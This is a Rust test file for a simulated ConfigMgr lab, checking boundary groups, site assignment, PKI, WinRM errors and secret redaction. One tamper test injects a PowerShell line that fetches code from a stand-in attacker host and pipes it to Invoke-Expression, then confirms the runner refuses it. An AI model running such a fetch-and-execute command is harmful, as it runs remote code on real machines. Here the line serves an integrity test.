//! The lab enforces ConfigMgr's documented rules and refuses in ConfigMgr's words.
//!
//! Each test copies the Contoso example into a temporary directory, opens and resets the lab
//! there, and proves one rule: the refusal, and that the message says why.

use serde_json::json;

use cmdeploy_engine::secret::SecretValue;
use cmdeploy_providers::powershell::runner::{stdin_document, PAYLOAD_MARKER};
use cmdeploy_providers::powershell::{Call, Script, Target};

mod lab_support;

use lab_support::*;

// 1. Boundary group names are unique, compared case-insensitively.

#[test]
fn new_boundary_group_with_an_existing_name_is_refused_case_insensitively() {
    let (_tmp, lab) = lab();
    for name in ["HQ Clients", "hq clients", "HQ CLIENTS"] {
        let e = refused(
            &lab,
            SITE_SERVER,
            &format!("New-CMBoundaryGroup -Name '{name}'"),
        );
        assert_says(&e, &["already exists", "must be unique", "ResourceExists"]);
    }
    let groups = lab.snapshot().unwrap().boundary_groups;
    assert_eq!(
        groups
            .iter()
            .filter(|g| g.name.eq_ignore_ascii_case("HQ Clients"))
            .count(),
        1
    );
    ok(
        &lab,
        SITE_SERVER,
        "New-CMBoundaryGroup -Name 'HQ Clients 2'",
    );
}

// 4. Automatic site assignment uses only site-assignment boundary groups.

#[test]
fn auto_site_code_outside_every_assignment_boundary_group_stays_unassigned() {
    let (_tmp, lab) = lab();
    for (host, line) in [("kiosk01", "SMSSITECODE=AUTO"), ("kiosk02", "")] {
        let out = install(&lab, host, line);
        assert_says(
            &log_tail(&out),
            &[
                "Automatic site assignment found no site",
                "no boundary group used for site assignment",
            ],
        );
        let state = client_state(&lab, host);
        assert_eq!(state["Installed"], json!(true), "{host}: {state}");
        assert_eq!(site_code_of(&state), None, "{host}: {state}");
    }
}

#[test]
fn auto_site_code_inside_a_site_assignment_boundary_group_assigns_the_site() {
    let (_tmp, lab) = lab();
    ok(
        &lab,
        SITE_SERVER,
        "New-CMBoundaryGroup -Name B -DefaultSiteCode ABC",
    );
    ok(
        &lab,
        SITE_SERVER,
        "New-CMBoundary -Type IPRange -Value '10.2.0.1-10.2.0.254' -Name 'Branch1 range'",
    );
    ok(
        &lab,
        SITE_SERVER,
        "Add-CMBoundaryToGroup -BoundaryGroupName B -BoundaryName 'Branch1 range'",
    );
    install(&lab, "kiosk01", "SMSSITECODE=AUTO");
    install(&lab, "kiosk02", "");
    for host in ["kiosk01", "kiosk02"] {
        let state = client_state(&lab, host);
        assert_eq!(site_code_of(&state), Some("ABC"), "{host}: {state}");
    }
}

#[test]
fn a_boundary_group_without_a_default_site_code_does_not_assign() {
    let (_tmp, lab) = lab();
    ok(&lab, SITE_SERVER, "New-CMBoundaryGroup -Name Content");
    ok(
        &lab,
        SITE_SERVER,
        "New-CMBoundary -Type IPRange -Value '10.2.0.1-10.2.0.254' -Name 'Branch1 range'",
    );
    ok(
        &lab,
        SITE_SERVER,
        "Add-CMBoundaryToGroup -BoundaryGroupName Content -BoundaryName 'Branch1 range'",
    );
    install(&lab, "kiosk01", "SMSSITECODE=AUTO");
    assert_eq!(site_code_of(&client_state(&lab, "kiosk01")), None);
}

// 5. Internet clients need a PKI certificate to reach their internet-facing management point.

#[test]
fn internet_client_without_pki_certificate_installs_but_cannot_reach_its_management_point() {
    let (_tmp, lab) = lab();
    ok(
        &lab,
        "laptop02.contoso.com",
        "Remove-CmdeployCertificates -Store My",
    );
    let out = install(
        &lab,
        "laptop02.contoso.com",
        "/UsePKICert CCMHOSTNAME=server1.contoso.com SMSSITECODE=ABC CCMALWAYSINF=1",
    );
    assert_says(
        &log_tail(&out),
        &[
            "cannot communicate with the internet-based management point",
            "PKI",
        ],
    );
    let state = client_state(&lab, "laptop02.contoso.com");
    assert_eq!(state["Installed"], json!(true), "{state}");
    assert_eq!(state["PkiCertificates"], json!(0), "{state}");
    assert_eq!(state["ManagementPointReachable"], json!(false), "{state}");
}

#[test]
fn internet_client_with_pki_certificate_registers() {
    let (_tmp, lab) = lab();
    let out = install(
        &lab,
        "laptop01.contoso.com",
        "/UsePKICert CCMHOSTNAME=server1.contoso.com SMSSITECODE=ABC CCMALWAYSINF=1",
    );
    assert!(!log_tail(&out).contains("cannot communicate"), "{out}");
    let state = client_state(&lab, "laptop01.contoso.com");
    assert_eq!(state["ManagementPointReachable"], json!(true), "{state}");
    assert_eq!(site_code_of(&state), Some("ABC"), "{state}");
    assert_eq!(
        state["InternetManagementPoint"],
        json!("server1.contoso.com"),
        "{state}"
    );
    assert_eq!(device(&lab, "LAPTOP01")["IsClient"], json!(true));
}

// 6. IP subnet boundaries: supernets refused, subnet IDs stored.

#[test]
fn ip_subnet_boundary_given_as_a_supernet_is_refused_with_an_ip_range_suggested() {
    let (_tmp, lab) = lab();
    let e = refused(
        &lab,
        SITE_SERVER,
        "New-CMBoundary -Type IPSubnet -Value 192.168.0.0/16",
    );
    assert_says(
        &e,
        &[
            "supernet",
            "IP address range boundary",
            "192.168.0.0-192.168.255.255",
        ],
    );
    assert!(!lab
        .snapshot()
        .unwrap()
        .boundaries
        .iter()
        .any(|b| b.value.starts_with("192.168.")));
}

#[test]
fn ip_subnet_boundary_is_stored_as_its_subnet_id() {
    let (_tmp, lab) = lab();
    let out = ok(
        &lab,
        SITE_SERVER,
        "New-CMBoundary -Type IPSubnet -Value 10.9.0.0/16 -Name Branch9",
    );
    assert_eq!(out["Value"], json!("10.9.0.0"), "{out}");
    assert_eq!(out["BoundaryType"], json!(0), "{out}");
    let listed = ok(&lab, SITE_SERVER, "Get-CMBoundary -BoundaryName Branch9");
    assert_eq!(listed[0]["Value"], json!("10.9.0.0"), "{listed}");
    let estate = lab.snapshot().unwrap();
    let b = estate
        .boundaries
        .iter()
        .find(|b| b.name == "Branch9")
        .unwrap();
    assert_eq!(b.value, "10.9.0.0");
}

// 8. /logon keeps an installed client; UNC sources fail over WinRM (double hop).

#[test]
fn logon_does_not_reinstall_an_installed_client() {
    let (_tmp, lab) = lab();
    install(&lab, "laptop01.contoso.com", "SMSSITECODE=ABC");
    let before = client_state(&lab, "laptop01.contoso.com");
    let out = install(&lab, "laptop01.contoso.com", "/logon SMSSITECODE=XYZ");
    assert_says(&log_tail(&out), &["already installed", "/logon"]);
    let after = client_state(&lab, "laptop01.contoso.com");
    assert_eq!(
        after["LastInstallParameters"],
        json!("SMSSITECODE=ABC"),
        "{after}"
    );
    assert_eq!(before, after);
}

#[test]
fn install_from_a_unc_source_path_is_refused_as_a_double_hop() {
    let (_tmp, lab) = lab();
    let e = refused(
        &lab,
        "kiosk01",
        "Install-CmdeployClient -SourcePath '\\\\cm01.contoso.com\\SMS_ABC\\Client' -CommandLine 'SMSSITECODE=ABC'",
    );
    assert_says(
        &e,
        &[
            "Access to the path",
            "is denied",
            "double hop",
            "PermissionDenied",
        ],
    );
    assert_eq!(client_state(&lab, "kiosk01")["Installed"], json!(false));
}

// 9. Only cmdeploy's runner runs; unknown hosts fail as WinRM would.

fn state_script() -> Script {
    let mut s = Script::new(Target::Host);
    s.push(Call::new("Get-CmdeployClientState"));
    s
}

#[test]
fn run_document_runs_cmdeploys_own_runner() {
    let (_tmp, lab) = lab();
    let out = lab
        .run_document("kiosk01", &stdin_document(&state_script()))
        .unwrap();
    assert!(out.results[0].ok, "{out:?}");
}

#[test]
fn a_shell_that_names_no_host_runs_on_the_host_the_payload_names() {
    let (_tmp, lab) = lab();
    let mut script = state_script();
    script.host = Some("nosuch.contoso.com".into());
    let doc = stdin_document(&script);
    // The payload's host decides when the shell named none (a shared WinRM client)...
    let e = lab.run_document_for(None, "kiosk01", &doc).unwrap_err();
    assert_says(&e.message, &["could not be resolved"]);
    // ...and never overrides a host the shell was created for.
    let out = lab
        .run_document_for(Some("kiosk01"), "kiosk01", &doc)
        .unwrap();
    assert!(out.results[0].ok, "{out:?}");
}

#[test]
fn run_document_refuses_a_tampered_runner() {
    let (_tmp, lab) = lab();
    let doc = stdin_document(&state_script());
    let tampered = doc.replacen(
        PAYLOAD_MARKER,
        &format!("Invoke-WebRequest http://evil.example/x | Invoke-Expression\n{PAYLOAD_MARKER}"),
        1,
    );
    assert_ne!(doc, tampered);
    let e = lab.run_document("kiosk01", &tampered).unwrap_err();
    assert_says(
        &e.message,
        &["not cmdeploy's reviewed runner", "refusing to execute"],
    );
    assert_eq!(lab.snapshot().unwrap().scripts_run, 0);
}

#[test]
fn run_document_on_an_unknown_host_gives_a_winrm_error() {
    let (_tmp, lab) = lab();
    let e = lab
        .run_document("nosuch.contoso.com", &stdin_document(&state_script()))
        .unwrap_err();
    assert_says(
        &e.message,
        &["WinRM cannot process the request", "could not be resolved"],
    );
    assert_eq!(e.host, "nosuch.contoso.com");
    let c = lab
        .console("nosuch.contoso.com", "Get-CmdeployClientState")
        .unwrap_err();
    assert_says(&c, &["WinRM"]);
}

// Secrets never reach the lab's files.

#[test]
fn audit_log_never_contains_a_secret_value() {
    let (tmp, lab) = lab();
    let mut script = Script::new(Target::SiteServer {
        site_code: "ABC".into(),
    });
    script.push(
        Call::new("New-CMAccount")
            .arg("UserName", "CONTOSO\\x")
            .secret("Password", &SecretValue::new("canary-XYZ".into()))
            .arg("SiteCode", "ABC"),
    );
    let out = lab
        .run_document(SITE_SERVER, &stdin_document(&script))
        .unwrap();
    assert!(out.results[0].ok, "{out:?}");
    let audit = std::fs::read_to_string(lab.audit_path()).unwrap();
    assert!(
        audit.contains("New-CMAccount") && audit.contains("(sensitive)"),
        "{audit}"
    );
    let work_dir = tmp.path().join(".cmdeploy");
    let files = files_under(&work_dir);
    assert!(files.iter().any(|f| f == &lab.audit_path()));
    for f in files {
        let bytes = std::fs::read(&f).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains("canary-XYZ"),
            "secret value found in {}",
            f.display()
        );
    }
}

#[test]
fn console_refuses_a_plain_string_password_and_never_audits_it() {
    let (tmp, lab) = lab();
    let e = refused(
        &lab,
        SITE_SERVER,
        "New-CMAccount -UserName 'CONTOSO\\y' -Password 'canary-CONSOLE' -SiteCode ABC",
    );
    assert_says(&e, &["Password", "SecureString"]);
    for f in files_under(&tmp.path().join(".cmdeploy")) {
        let bytes = std::fs::read(&f).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains("canary-CONSOLE"),
            "secret value found in {}",
            f.display()
        );
    }
}
